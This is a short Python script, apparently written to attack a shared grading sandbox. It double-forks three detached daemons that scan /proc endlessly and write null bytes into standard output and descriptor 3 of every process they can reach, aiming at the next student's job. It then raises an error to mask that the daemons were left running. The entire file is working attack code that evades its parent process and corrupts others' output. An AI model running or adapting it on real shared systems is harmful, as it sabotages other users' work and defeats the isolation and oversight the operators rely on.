"""Starts daemons, twice forked and in sessions of their own, that look for the next student's process and write to it."""

import os
import sys
import time

# reads "the daemon has been left"


def daemon():
    for descriptor in (0, 1, 2):
        os.close(descriptor)
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for descriptor in (1, 3):
                try:
                    with open(f"/proc/{pid}/fd/{descriptor}", "wb") as file:
                        file.write(bytes(12))
                except OSError:
                    continue
        time.sleep(0.01)


for _ in range(3):
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    daemon()
                finally:
                    os._exit(0)
            os._exit(0)
    except OSError:
        break
raise RuntimeError("the daemon has been left")
